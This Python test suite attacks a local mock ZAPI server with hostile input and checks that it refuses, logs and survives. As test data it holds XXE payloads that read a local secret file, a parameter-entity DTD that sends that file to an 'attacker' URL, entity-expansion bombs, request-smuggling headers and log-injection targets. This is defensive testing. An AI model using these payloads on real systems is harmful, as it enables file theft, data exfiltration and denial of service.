"""Hostile input, end to end: every attack gets a clear refusal, is logged, and never crashes,
hangs or leaks the server.

Each class runs its own server (tests/e2e/mockserver.py: ephemeral port, own certificates, TLS
verified for real). After every test the server must still be running, answer a normal ping, and
be back to the file descriptors it held before the test (no connection leaked); at the end of each
class it must stop on SIGTERM with exit status 0 (ServerTestCase.tearDownClass). Under the
ASan/UBSan build (scripts/test) a leak also turns that exit status non-zero.

Comments marked "Regression" name server bugs these tests found (since fixed): they say what went
wrong before.
"""

import ctypes
import json
import os
import re
import resource
import select
import shutil
import socket
import ssl
import statistics
import struct
import sys
import tempfile
import threading
import time
import unittest
import uuid
import warnings

from mockserver import (RawHTTPReader, ServerTestCase, TOKEN, ACCOUNT_ID, USER_ID, json_request,
                        raw_request, xml_request)

SOCK_TIMEOUT = 5.0
PING_XML = xml_request("zapiPing")
PING_JSON = json_request("zapiPing")
NOFILE_WANTED = 4096


def setUpModule():
    # 300 slowloris sockets (plus the server's own, inherited limit) need more than 1024 on some
    # systems.
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft != resource.RLIM_INFINITY and soft < NOFILE_WANTED:
        want = NOFILE_WANTED if hard == resource.RLIM_INFINITY else min(NOFILE_WANTED, hard)
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))


def peer_re(port):
    """Matches this client port in a log line ("peer=127.0.0.1:P " or "conn 127.0.0.1:P:")."""
    return r"127\.0\.0\.1:%d\b" % port


def client_hello(ctx, hostname="localhost"):
    """The bytes of the first flight ctx sends (a ClientHello), made without any network."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(incoming, outgoing, server_hostname=hostname)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def recv_until_closed(sock, timeout):
    """Reads until the peer closes (EOF or reset); returns (closed, bytes read)."""
    deadline = time.monotonic() + timeout
    got = b""
    while True:
        left = deadline - time.monotonic()
        if left <= 0:
            return False, got
        sock.settimeout(left)
        try:
            data = sock.recv(65536)
        except (ConnectionResetError, BrokenPipeError, ssl.SSLEOFError):
            return True, got
        except ssl.SSLError as e:
            if "EOF" in str(e) or "ALERT" in str(e).upper():
                return True, got
            raise
        except socket.timeout:
            return False, got
        if not data:
            return True, got
        got += data


def metric_value(text, name, labels=None):
    """The value of one sample of a Prometheus text exposition, or None."""
    sel = re.escape(name)
    if labels:
        sel += r"\{" + ",".join('%s="%s"' % (k, re.escape(v)) for k, v in labels.items()) + r"\}"
    m = re.search(r"^%s (\S+)$" % sel, text, re.M)
    return float(m.group(1)) if m else None


class HostileCase(ServerTestCase):
    """A ServerTestCase that checks the server's health after each test."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        # One request first, so lazily opened resources are part of the baseline.
        r = cls.fresh_post(PING_XML)
        assert r.status == 200, r
        # Lowest of a few readings: the server may not have seen that connection close yet.
        readings = []
        for _ in range(5):
            readings.append(cls.count_fds())
            time.sleep(0.02)
        cls.baseline_fds = None if None in readings else min(readings)

    @classmethod
    def fresh_post(cls, body, content_type="application/xml", path="/zapi/", method="POST"):
        """One request on a connection of its own, closed afterwards: never the harness's
        persistent connection, which would hold a connection slot and a descriptor, and which
        the short idle timeouts of some classes close under it."""
        conn = cls.server.connection(timeout=SOCK_TIMEOUT)
        try:
            return cls.server.post(body, content_type, path=path, conn=conn, method=method)
        finally:
            conn.close()

    @classmethod
    def count_fds(cls):
        try:
            return len(os.listdir("/proc/%d/fd" % cls.server.proc.pid))
        except OSError:
            return None

    def setUp(self):
        super().setUp()
        # Registered first, so it runs last: after the test's own cleanups closed its sockets.
        self.addCleanup(self.assertServerHealthy)

    def assertServerHealthy(self):
        srv = self.server
        self.assertTrue(srv.alive(), "zapi-mock is not running any more:\n%s" % srv.log()[-5000:])
        r = self.fresh_post(PING_XML)
        self.assertZapiOk(r, "zapiPing")
        if self.baseline_fds is None:
            return
        deadline = time.monotonic() + 5.0
        while True:
            n = self.count_fds()
            if n is None or n <= self.baseline_fds:
                return
            if time.monotonic() > deadline:
                self.fail("the server holds %d file descriptors, %d before the test: a "
                          "connection was leaked" % (n, self.baseline_fds))
            time.sleep(0.05)

    # -- clients ----------------------------------------------------------------------------

    def tls(self, timeout=SOCK_TIMEOUT, **kw):
        s = self.server.tls_socket(timeout=timeout, **kw)
        self.addCleanup(s.close)
        return s

    def tcp(self, timeout=SOCK_TIMEOUT):
        s = self.server.tcp_socket(timeout=timeout)
        self.addCleanup(s.close)
        return s

    def send_raw(self, data, tls=True):
        """Sends bytes on a new connection; returns (reader, local port)."""
        s = self.tls() if tls else self.tcp()
        port = s.getsockname()[1]
        s.sendall(data)
        return RawHTTPReader(s), port

    def post_timed(self, body, content_type="application/xml"):
        """POSTs body on a new connection; returns (Response, local port, seconds)."""
        conn = self.server.connection(timeout=SOCK_TIMEOUT)
        try:
            conn.connect()
            port = conn.sock.getsockname()[1]
            t0 = time.monotonic()
            r = self.server.post(body, content_type, conn=conn)
            return r, port, time.monotonic() - t0
        finally:
            conn.close()

    def get(self, path):
        return self.fresh_post(b"", content_type=None, path=path, method="GET")

    def metrics(self):
        r = self.get("/__admin/metrics")
        self.assertEqual(r.status, 200, r)
        return r.body.decode("utf-8")

    # -- assertions -------------------------------------------------------------------------

    def assertRefusal(self, reader, port, status, reason_re=None):
        """The next answer on reader is an HTTP refusal with a ZAPI error body, the server then
        closes the connection, and the log says why."""
        try:
            r = reader.read_response()
        except (socket.timeout, TimeoutError):
            r = None
        if r is None:
            self.fail("no answer within %.1f s (want %d)" % (reader.sock.gettimeout(), status))
        self.assertEqual(r.status, status, r)
        self.assertTrue(r.body, "refusal without a body: %r" % r)
        self.assertTrue(r.header("Content-Type", "").startswith("application/xml"), r)
        z = r.zapi()
        self.assertEqual(z["error"], "3", r)
        self.assertIn("HTTP %d" % status, z["message"], r)
        if reason_re:
            self.assertRegex(z["message"], reason_re)
        self.assertEqual(r.header("Connection"), "close", r)
        self.assertTrue(reader.at_eof(3.0), "the connection stays open after a %d" % status)
        self.server.wait_for_log(r"refused peer=%s status=%d reason=" % (peer_re(port), status))
        return r

    def assertZapiError3(self, r, port, why_re, elapsed=None, limit=1.0, fmt="xml"):
        """HTTP 200 (the default --error-status), a well-formed answer in the request's format
        with error 3 and a message matching why_re; logged with error=3."""
        self.assertEqual(r.status, 200, r)
        try:
            text = r.body.decode("utf-8")  # the answer is valid UTF-8, whatever came in
            bad = None
        except UnicodeDecodeError as e:
            bad = "%s: %r" % (e.reason, r.body[max(0, e.start - 40):e.end + 20])
        if bad:
            self.fail("the answer is not valid UTF-8 (%s)" % bad)
        if fmt == "json":
            self.assertTrue(r.content_type.startswith("application/json"), r.content_type)
            z = json.loads(text)["response"]
        else:
            self.assertTrue(r.content_type.startswith("application/xml"), r.content_type)
            z = r.zapi()
        self.assertEqual(z["error"], "3", r)
        self.assertRegex(z["message"], why_re)
        if elapsed is not None:
            self.assertLess(elapsed, limit, "answered in %.3f s" % elapsed)
        self.server.wait_for_log(r"request peer=%s .*status=200 error=3 " % peer_re(port))
        return z


# ---------------------------------------------------------------------------------------------
# 1. XML


XML_DOCTYPE = r"must not contain a DOCTYPE"
XML_NOT_WELL_FORMED = r"not well-formed: line \d+, column \d+: \S"
XML_NUL = r"contains a NUL byte at offset \d+"


def xml_envelope(doctype="", token=TOKEN, method="zapiPing", extra="", declaration=True):
    """A ping envelope with raw (unescaped) pieces spliced in."""
    return ("%s%s<request><zapiToken>%s</zapiToken><zapiAccountId>%s</zapiAccountId>"
            "<zapiUserId>%s</zapiUserId><zapiMethod><methodName>%s</methodName>%s</zapiMethod>"
            "</request>" % ('<?xml version="1.0" encoding="utf-8"?>\n' if declaration else "",
                            doctype, token, ACCOUNT_ID, USER_ID, method, extra)).encode("utf-8")


class XmlAttacks(HostileCase):
    server_args = ["--max-body", "8388608"]

    @classmethod
    def setUpClass(cls):
        # A file the server must never read into an answer or the log.
        cls.secret_dir = tempfile.mkdtemp(prefix="zapi-hostile-")
        cls.addClassCleanup(shutil.rmtree, cls.secret_dir, True)
        cls.secret = "S3CR3T" + uuid.uuid4().hex[:16]
        cls.secret_path = os.path.join(cls.secret_dir, "secret.txt")
        with open(cls.secret_path, "w", encoding="ascii") as f:
            f.write(cls.secret)
        # A local HTTP "attacker" the server must never connect to.
        cls.listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        cls.addClassCleanup(cls.listener.close)
        cls.listener.bind(("127.0.0.1", 0))
        cls.listener.listen(16)
        cls.listener.setblocking(False)
        cls.url = "http://127.0.0.1:%d" % cls.listener.getsockname()[1]
        super().setUpClass()

    def attack(self, body, why_re, limit=1.0):
        r, port, elapsed = self.post_timed(body)
        z = self.assertZapiError3(r, port, why_re, elapsed, limit)
        self.assertNotIn(self.secret, r.body.decode("utf-8"))
        return z

    def assertSecretKept(self):
        self.assertNotIn(self.secret, self.server.log())

    def assertNoFetch(self):
        """Nothing connected to the local listener (give a stray fetch 0.2 s to show up)."""
        readable, _, _ = select.select([self.listener], [], [], 0.2)
        if readable:
            conn, addr = self.listener.accept()
            conn.close()
            self.fail("the server connected to %s (from %s:%d)" % (self.url, *addr))

    def test_external_entity_to_local_file(self):
        file_url = "file://" + self.secret_path
        for body in (
                xml_envelope('<!DOCTYPE request [<!ENTITY xxe SYSTEM "%s">]>\n' % file_url,
                             token="&xxe;", method="&xxe;"),
                # Without the XML declaration, and through a bare path.
                xml_envelope('<!DOCTYPE request [<!ENTITY xxe SYSTEM "%s">]>' % self.secret_path,
                             token="&xxe;", declaration=False),
                # XInclude needs no DTD; it must not be processed either.
                xml_envelope(extra='<x xmlns:xi="http://www.w3.org/2001/XInclude">'
                                   '<xi:include href="%s" parse="text"/></x>' % file_url,
                             token='<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                                   'href="%s" parse="text"/>' % file_url),
        ):
            with self.subTest(body=body[:90]):
                r, port, elapsed = self.post_timed(body)
                self.assertNotIn(self.secret, r.body.decode("utf-8"))
                if b"DOCTYPE" in body:
                    z = self.assertZapiError3(r, port, XML_DOCTYPE, elapsed)
                    self.assertIn("ZAPI_INVALID_XML", z["message"])
                else:
                    # XInclude is plain markup: the token is then empty (error 1), never the file.
                    self.assertEqual(r.status, 200, r)
                    self.assertIn(r.zapi()["error"], ("1", "3"), r)
        self.assertSecretKept()

    def test_external_entity_over_http_is_never_fetched(self):
        for body in (
                xml_envelope('<!DOCTYPE request [<!ENTITY xxe SYSTEM "%s/xxe">]>' % self.url,
                             token="&xxe;"),
                xml_envelope('<!DOCTYPE request [<!ENTITY xxe PUBLIC "-//A//B" "%s/pub">]>'
                             % self.url, extra="<n>&xxe;</n>"),
        ):
            with self.subTest(body=body[:90]):
                self.attack(body, XML_DOCTYPE)
        # A stylesheet processing instruction is no reason to fetch anything either.
        pi = '<?xml-stylesheet type="text/xsl" href="%s/style.xsl"?>' % self.url
        r, _, _ = self.post_timed(xml_envelope(pi))
        self.assertEqual(r.zapi()["error"], "0", r)  # a legal processing instruction, ignored
        self.assertNoFetch()

    def test_external_dtd(self):
        for body in (
                xml_envelope('<!DOCTYPE request SYSTEM "%s/evil.dtd">' % self.url),
                xml_envelope('<!DOCTYPE request SYSTEM "file://%s">' % self.secret_path),
                xml_envelope('<!DOCTYPE request PUBLIC "-//EVIL//DTD X//EN" "%s/p.dtd">'
                             % self.url),
        ):
            with self.subTest(body=body[:90]):
                self.attack(body, XML_DOCTYPE)
        self.assertNoFetch()
        self.assertSecretKept()

    def test_parameter_entities(self):
        # The classic out-of-band exfiltration: read the file, send it to the attacker's URL.
        dtd = ('<!DOCTYPE request [\n'
               '<!ENTITY %% remote SYSTEM "%s/pe.dtd"> %%remote;\n'
               '<!ENTITY %% file SYSTEM "file://%s">\n'
               '<!ENTITY %% eval "<!ENTITY &#x25; exfil SYSTEM \'%s/?x=%%file;\'>">\n'
               '%%eval; %%exfil;\n'
               '<!ENTITY %% local "<!ENTITY inner \'x\'>"> %%local;\n'
               ']>' % (self.url, self.secret_path, self.url))
        self.attack(xml_envelope(dtd, token="&inner;"), XML_DOCTYPE)
        self.assertNoFetch()
        self.assertSecretKept()

    def test_billion_laughs(self):
        ents = ['<!ENTITY lol "lol">']
        for i in range(1, 10):
            ents.append('<!ENTITY lol%d "%s">' % (i, ("&lol%s;" % (i - 1 or "")) * 10))
        body = xml_envelope("<!DOCTYPE request [%s]>" % "".join(ents), token="&lol9;")
        self.attack(body, XML_DOCTYPE)

    def test_quadratic_blowup(self):
        # 50 kB entity x 5000 references = 250 MB if expanded.
        body = xml_envelope('<!DOCTYPE request [<!ENTITY a "%s">]>' % ("A" * 50000),
                            extra="<n>%s</n>" % ("&a;" * 5000))
        self.attack(body, XML_DOCTYPE)

    def test_undefined_entity_without_dtd(self):
        self.attack(xml_envelope(token="&xxe;"), XML_NOT_WELL_FORMED)

    def test_nesting_10000_deep(self):
        self.attack(xml_envelope(extra="<a>" * 10000 + "x" + "</a>" * 10000),
                    XML_NOT_WELL_FORMED)
        # Never closed, and far deeper.
        self.attack(b"<request>" + b"<a>" * 200000, XML_NOT_WELL_FORMED)

    def test_five_megabyte_text_node(self):
        blob = "A" * (5 * 1024 * 1024)
        body = xml_envelope(extra="<blob>%s</blob>" % blob)
        self.assertLess(len(body), 8388608)
        r, port, elapsed = self.post_timed(body)
        # Refused or answered: either way in bounded time, without echoing megabytes.
        self.assertEqual(r.status, 200, r)
        self.assertIn(r.zapi()["error"], ("0", "3"), r)
        self.assertLess(elapsed, 5.0)
        self.assertLess(len(r.body), 64 * 1024)
        self.server.wait_for_log(r"request peer=%s .*status=200 " % peer_re(port))
        # The same blob as the token: error 1, and the message quotes only a short prefix.
        r, _, elapsed = self.post_timed(xml_envelope(token=blob))
        self.assertEqual(r.zapi()["error"], "1", r)
        self.assertLess(elapsed, 5.0)
        self.assertLess(len(r.body), 64 * 1024)
        self.assertLess(len(self.server.log()), 1024 * 1024, "the log got the blob")

    def test_utf16_body_declared_as_utf8(self):
        text = ('<?xml version="1.0" encoding="UTF-8"?>'
                + xml_envelope(declaration=False).decode("ascii"))
        for codec in ("utf-16", "utf-16-le", "utf-16-be"):
            with self.subTest(codec=codec):
                # Regression (libxml2 2.9 leniency): a UTF-16 document that declares
                # encoding="UTF-8" is a fatal error (XML 1.0 section 4.3.3), so the answer should
                # be error 3; the server answers a ping (error 0) when a BOM announces UTF-16.
                self.attack(text.encode(codec), XML_NOT_WELL_FORMED + r"|encoding|UTF")

    def test_invalid_utf8(self):
        for bad in (b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\x80",
                    b"caf\xe9"):
            with self.subTest(bytes=bad):
                body = xml_envelope().replace(b"ZAPI-DEMO-TOKEN", b"ZAPI" + bad)
                self.attack(body, XML_NOT_WELL_FORMED)

    def test_latin1_declared_with_invalid_bytes(self):
        decl = b'<?xml version="1.0" encoding="ISO-8859-1"?>'
        for bad in (b"\x01", b"\x1b[31m", b"\x0c", b"\x7f\x00"):
            with self.subTest(bytes=bad):
                body = decl + xml_envelope(declaration=False, token="T" + "@@")
                self.attack(body.replace(b"@@", bad), XML_NOT_WELL_FORMED + "|" + XML_NUL)
        # Bytes that are valid Latin-1 (but not UTF-8) are read as Latin-1: handled, and the
        # answer quoting them is valid UTF-8.
        r, _, _ = self.post_timed(decl + xml_envelope(declaration=False, token="caf\xe9")
                                  .replace(b"caf\xc3\xa9", b"caf\xe9"))
        self.assertEqual(r.zapi()["error"], "1", r)
        r.body.decode("utf-8")

    def test_nul_bytes(self):
        for body in (b"\0" * 4096, b"\0", b"\0" + PING_XML,
                     PING_XML.replace(b"zapiPing", b"zapi\0Ping")):
            with self.subTest(body=body[:40]):
                self.attack(body, XML_NUL)
        for tail in (b"\0", b"\0\0\0<garbage>&&&</x>"):
            with self.subTest(tail=tail):
                # libxml2 takes a NUL byte for the end of the input: without the server's own
                # check a complete envelope followed by NUL and anything at all was answered as a
                # valid ping. NUL is not an XML character: error 3 naming the offset.
                self.attack(PING_XML + tail, XML_NUL)

    def test_messages_quoting_the_input_stay_valid_utf8(self):
        # Error messages quote names from the body and cut them to a length: never inside a
        # multi-byte character, or the answer itself is not valid UTF-8.
        # Regression: envelope.c cuts the quoted name ("found <%.64s>") and libxml2's message
        # (msg[256]) at a byte count, in the middle of a UTF-8 sequence: the XML answer then
        # holds invalid UTF-8 (observed: "...\xc3>)]]>" in <message>).
        name = "a" + "\u00e9" * 200  # the odd "a" puts every cut inside an "\u00e9"
        for body in (
                ("<%s><zapiMethod/></%s>" % (name, name)).encode("utf-8"),  # wrong root
                ("<request><%s></b%s></request>" % (name, name)).encode("utf-8"),  # mismatch
                ("<request>" + "\u20ac" * 300 + "&%s;</request>" % name).encode("utf-8"),
        ):
            with self.subTest(body=body[:40]):
                self.attack(body, r"\S")


# ---------------------------------------------------------------------------------------------
# 2. JSON


JSON_INVALID = r"JSON request is not valid: line \d+, column \d+: \S"


class JsonAttacks(HostileCase):

    def attack(self, body, why_re, limit=1.0):
        r, port, elapsed = self.post_timed(body, "application/json")
        return self.assertZapiError3(r, port, why_re, elapsed, limit, fmt="json")

    def answer(self, body):
        """A JSON answer to a JSON body, whatever the error code."""
        r, _, elapsed = self.post_timed(body, "application/json")
        self.assertEqual(r.status, 200, r)
        self.assertTrue(r.content_type.startswith("application/json"), r.content_type)
        self.assertLess(elapsed, 2.0)
        return json.loads(r.body.decode("utf-8"))["response"]

    def test_nesting_100000_deep(self):
        self.attack(b'{"a":' * 100000 + b"1" + b"}" * 100000, JSON_INVALID + r"|deep")
        self.attack(b"[" * 100000 + b"]" * 100000, JSON_INVALID + r"|object")
        self.attack(b'{"a":[' * 50000, JSON_INVALID)
        # Deep enough for the envelope's own limit, not the JSON parser's.
        inner = '{"a":' * 500 + "1" + "}" * 500
        body = ('{"zapiToken":"%s","zapiAccountId":456,"zapiUserId":1240,'
                '"zapiMethod":{"methodName":"zapiPing","deep":%s}}' % (TOKEN, inner))
        self.attack(body.encode("ascii"), r"nests deeper than \d+ levels")

    def test_duplicate_keys(self):
        body = ('{"zapiToken":"%s","zapiToken":"OTHER","zapiAccountId":456,"zapiUserId":1240,'
                '"zapiMethod":{"methodName":"zapiPing"}}' % TOKEN).encode("ascii")
        self.attack(body, JSON_INVALID + r"|duplicate")
        body = PING_JSON[:-2] + b',"methodName":"zapiPing"}}'
        self.attack(body, JSON_INVALID + r"|duplicate")

    def test_invalid_utf8(self):
        for bad in (b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"\x80", b"caf\xe9"):
            with self.subTest(bytes=bad):
                self.attack(PING_JSON.replace(b"ZAPI-DEMO-TOKEN", b"ZAPI" + bad), JSON_INVALID)
        for esc in (br"\ud800", br"\udc00x", br"\u0000"):
            with self.subTest(escape=esc):
                self.attack(PING_JSON.replace(b"ZAPI-DEMO-TOKEN", b"ZAPI" + esc), JSON_INVALID)

    def test_huge_strings(self):
        huge = "A" * (900 * 1024)
        self.attack(json.dumps(huge).encode("ascii"), r"must be an object|" + JSON_INVALID)
        self.attack(b'{"zapiToken":"' + huge.encode("ascii"), JSON_INVALID)  # never closed
        z = self.answer(json_request("zapiPing", token=huge))
        self.assertEqual(z["error"], "1")
        self.assertLess(len(z["message"]), 1024)
        z = self.answer(json_request("zapiPing", {"note": huge}))
        self.assertEqual(z["error"], "0")
        z = self.answer(json_request("zapiPing", {"k" * 100000: 1}))
        self.assertIn(z["error"], ("0", "3"))
        self.assertLess(len(self.server.log()), 512 * 1024, "the log got a huge string")

    def test_odd_numbers(self):
        for num in ("1e999", "-1e999", "-0", "-0.0", "1e-999", "123456789012345678901234567890",
                    "-123456789012345678901234567890", "1.7976931348623157e308", "0.1e-400",
                    "4.9e-324", "9223372036854775807", "-9223372036854775808",
                    "9223372036854775808"):
            with self.subTest(number=num):
                body = PING_JSON[:-2] + b',"n":' + num.encode("ascii") + b"}}"
                z = self.answer(body)
                self.assertIn(z["error"], ("0", "3"), z)
                if z["error"] == "3":
                    self.assertRegex(z["message"], JSON_INVALID)
        for ids, want in ((("456.0", "1240"), ("0",)), (("4.56e2", "1.24e3"), ("0",)),
                          (("-0", "1240"), ("1",)), (("456e999", "1240"), ("3",)),
                          (("45600000000000000000000000000", "1240"), ("3",))):
            with self.subTest(ids=ids):
                body = ('{"zapiToken":"%s","zapiAccountId":%s,"zapiUserId":%s,'
                        '"zapiMethod":{"methodName":"zapiPing"}}' % (TOKEN, ids[0], ids[1]))
                z = self.answer(body.encode("ascii"))
                self.assertIn(z["error"], want, z)

    def test_keys_that_are_not_xml_names(self):
        # Regression: for the key "1" + 40 x "\u00e9" the message 'JSON key "%.64s" is not a
        # valid ZAPI element name' is cut inside a UTF-8 sequence; the JSON answer cannot be
        # rendered and the server answers HTTP 500 with an empty body instead of error 3.
        for key in ("1abc", "a b", "", "x:y", "<a>", "]]><evil/>", "a&b", "-x", ".x",
                    "\u00e9\u00e9:", "1" + "\u00e9" * 40, "\U0001F600"):
            for where in ("top", "method"):
                with self.subTest(key=key, where=where):
                    env = {"zapiToken": TOKEN, "zapiAccountId": 456, "zapiUserId": 1240,
                           "zapiMethod": {"methodName": "zapiPing"}}
                    (env if where == "top" else env["zapiMethod"])[key] = "v"
                    body = json.dumps(env, ensure_ascii=False).encode("utf-8")
                    self.attack(body, r"not a valid ZAPI element name")

    def test_top_level_not_an_object(self):
        for body in (b"[]", b"[" + PING_JSON + b"]", b'"zapiPing"', b"123", b"null", b"true",
                     b"-0", b'{"request":[1,2]}x'):
            with self.subTest(body=body[:40]):
                self.attack(body, r"must be an object|" + JSON_INVALID)
        # The same without a JSON content type: read as XML, still a clean error 3.
        r, port, elapsed = self.post_timed(b"[1,2,3]", "text/plain")
        self.assertZapiError3(r, port, XML_NOT_WELL_FORMED, elapsed)


# ---------------------------------------------------------------------------------------------
# 3. HTTP


class LogInjection(HostileCase):
    """Regression (issue 12): a request target with tabs, form feeds, quotes and raw high bytes
    landed in the log line as is, faking logfmt fields and making the log binary."""

    def log_line_of(self, port):
        pattern = re.compile(rb"request peer=" + peer_re(port).encode("ascii") + rb" ")
        deadline = time.monotonic() + 5.0
        while True:
            with open(self.server.log_path, "rb") as f:
                lines = [l for l in f.read().split(b"\n") if pattern.search(l)]
            if lines:
                return lines[0]
            if time.monotonic() > deadline:
                self.fail("no request line for port %d:\n%s" % (port, self.server.log()[-3000:]))
            time.sleep(0.02)

    def test_request_target_is_escaped(self):
        target = b'/zapi/?x"\tmethod=zapiFake\tstatus=299\x0c\\\xff\xfe\xc3\xa9\xc2\x85'
        reader, port = self.send_raw(b"POST " + target + b" HTTP/1.1\r\nHost: localhost\r\n"
                                     b"Content-Length: %d\r\n\r\n" % len(PING_XML) + PING_XML)
        r = reader.read_response()
        self.assertEqual(r.status, 200, r)
        line = self.log_line_of(port)
        line.decode("utf-8")  # valid UTF-8, whatever came in
        self.assertFalse(re.search(rb"[\x00-\x1f\x7f]", line), line)
        self.assertEqual(len(re.findall(rb" method=", line)), 1, line)
        self.assertEqual(len(re.findall(rb" status=", line)), 1, line)
        self.assertIn(b'http="POST /zapi/?x\\"\\tmethod=zapiFake\\tstatus=299\\x0c'
                      b'\\\\\\xff\\xfe\xc3\xa9\\xc2\\x85" method=zapiPing ', line)


MAX_BODY = 65536


class HttpLimits(HostileCase):
    server_args = ["--max-body", str(MAX_BODY)]

    def test_body_over_max_body(self):
        # Announced: refused from the headers, before the body is read.
        reader, port = self.send_raw(raw_request(b"x" * (MAX_BODY + 1)))
        self.assertRefusal(reader, port, 413, r"too large")
        # Chunked, so only counting finds out.
        chunk = b"%x\r\n%s\r\n" % (16384, b"y" * 16384)
        head = (b"POST /zapi/ HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/xml\r\n"
                b"Transfer-Encoding: chunked\r\n\r\n")
        reader, port = self.send_raw(head + chunk * 5 + b"0\r\n\r\n")
        self.assertRefusal(reader, port, 413, r"too large")
        # Exactly the limit is still read (and is not a ZAPI request).
        reader, _ = self.send_raw(raw_request(b" " * MAX_BODY))
        self.assertEqual(reader.read_response().status, 200)

    def test_header_block_over_32k(self):
        reader, port = self.send_raw(raw_request(PING_XML, extra_headers=[
            "X-Big: " + "a" * (33 * 1024)]))
        self.assertRefusal(reader, port, 431)
        reader, port = self.send_raw(raw_request(PING_XML, extra_headers=[
            "X-H%d: %s" % (i, "b" * 1000) for i in range(40)]))
        self.assertRefusal(reader, port, 431)
        # Far over any limit, in one header name.
        reader, port = self.send_raw(b"POST /zapi/ HTTP/1.1\r\n" + b"X" * (200 * 1024))
        self.assertRefusal(reader, port, 431)

    def test_more_than_100_headers(self):
        reader, port = self.send_raw(raw_request(PING_XML, extra_headers=[
            "X-H%d: 1" % i for i in range(101)]))
        self.assertRefusal(reader, port, 431, r"too many")
        # 90 headers in all is fine.
        reader, _ = self.send_raw(raw_request(PING_XML, extra_headers=[
            "X-H%d: 1" % i for i in range(85)]))
        self.assertEqual(reader.read_response().status, 200)

    def test_request_line_over_8k(self):
        reader, port = self.send_raw(raw_request(PING_XML, path="/zapi/?" + "q" * 9000))
        self.assertRefusal(reader, port, 414)
        reader, port = self.send_raw(b"GET /" + b"a" * 20000 + b" HTTP/1.1\r\nHost: x\r\n\r\n")
        self.assertRefusal(reader, port, 414)

    def test_unknown_method(self):
        for method in (b"FOO", b"BREW", b"POSTX"):
            with self.subTest(method=method):
                reader, port = self.send_raw(method + b" /zapi/ HTTP/1.1\r\nHost: x\r\n"
                                             b"Content-Length: 0\r\n\r\n")
                r = reader.read_response()
                self.assertIn(r.status, (501, 405), r)
                self.assertEqual(r.zapi()["error"], "3", r)
        # A real method the endpoint does not take: 405 naming what it takes.
        reader, _ = self.send_raw(b"DELETE /zapi/ HTTP/1.1\r\nHost: x\r\n\r\n")
        r = reader.read_response()
        self.assertEqual(r.status, 405, r)
        self.assertEqual(r.header("Allow"), "POST", r)

    def test_http2_preface(self):
        preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
        settings = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"  # an empty SETTINGS frame
        for data in (preface, preface + settings):
            with self.subTest(data=data):
                reader, port = self.send_raw(data)
                r = reader.read_response()
                # "PRI" is a well-formed method token the server does not implement, so 501 is
                # as correct as 400 (or 505, HTTP Version Not Supported); what matters is a
                # refusal, then the connection closes.
                self.assertIn(r.status, (400, 501, 505), r)
                self.assertEqual(r.zapi()["error"], "3", r)
                self.assertTrue(reader.at_eof(3.0), "the connection stays open")

    def test_tls_inside_tls(self):
        ctx = ssl.create_default_context()
        hello = client_hello(ctx)
        for data in (hello, os.urandom(64) + b"\r\n\r\n"):
            with self.subTest(data=data[:16]):
                reader, port = self.send_raw(data)
                # Binary bytes are no method the server "does not implement" (501): the request
                # line is malformed.
                self.assertRefusal(reader, port, 400)

    def test_bad_chunk_sizes(self):
        head = (b"POST /zapi/ HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n"
                b"\r\n")
        for chunks in (b"zz\r\nabc\r\n0\r\n\r\n", b"-5\r\nabcde\r\n0\r\n\r\n",
                       b"FFFFFFFFFFFFFFFFFFFF\r\nabc\r\n0\r\n\r\n", b"\r\nabc\r\n0\r\n\r\n",
                       # The size says 3, six bytes follow before the CRLF.
                       b"3\r\nabcdef\r\n0\r\n\r\n"):
            with self.subTest(chunks=chunks):
                reader, port = self.send_raw(head + chunks)
                reader.sock.settimeout(2.0)
                # Regression (last case): http_parser, built without HTTP_PARSER_STRICT, does not
                # check the CRLF after chunk data: "def" is read as the CRLF and the size of a
                # next chunk (0xf), and the server waits for 15 more bytes (until the request
                # timeout, 408) instead of answering 400 at once. A chunk that is not the size it
                # announces is the raw material of request smuggling.
                self.assertRefusal(reader, port, 400)

    def test_content_length_and_chunked(self):
        for head in (b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
                     b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n"):
            with self.subTest(head=head):
                reader, port = self.send_raw(b"POST /zapi/ HTTP/1.1\r\nHost: x\r\n" + head
                                             + b"\r\n5\r\nhello\r\n0\r\n\r\n")
                self.assertRefusal(reader, port, 400)

    def test_bad_content_length(self):
        for value in (b"-1", b"-0", b"99999999999999999999999999", b"18446744073709551616",
                      b"1e3", b"0x10", b"5, 6", b""):
            with self.subTest(value=value):
                reader, port = self.send_raw(b"POST /zapi/ HTTP/1.1\r\nHost: x\r\n"
                                             b"Content-Length: " + value + b"\r\n\r\nhello")
                r = reader.read_response()
                # An overflowing value may also be read as "too large".
                self.assertIn(r.status, (400, 413) if len(value) > 15 else (400,), r)
                self.assertEqual(r.zapi()["error"], "3", r)
                self.assertTrue(reader.at_eof(3.0))
                self.server.wait_for_log(r"refused peer=%s status=%d " % (peer_re(port),
                                                                           r.status))
        reader, port = self.send_raw(b"POST /zapi/ HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n"
                                     b"Content-Length: 6\r\n\r\nhello!")
        self.assertRefusal(reader, port, 400)

    def test_pipeline_with_a_bad_request_in_the_middle(self):
        reqs = [raw_request(PING_XML), raw_request(PING_JSON, content_type="application/json"),
                b"POST /zapi/ HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
                raw_request(PING_XML)]
        reader, port = self.send_raw(b"".join(reqs))
        first = reader.read_response()
        self.assertZapiOk(first, "zapiPing")
        self.assertTrue(first.body.startswith(b"<?xml"))
        second = reader.read_response()
        self.assertZapiOk(second, "zapiPing")
        self.assertTrue(second.body.startswith(b"{"))
        self.assertRefusal(reader, port, 400)  # and then the connection closes
        # The fourth was never answered: two request lines and one refusal for this peer.
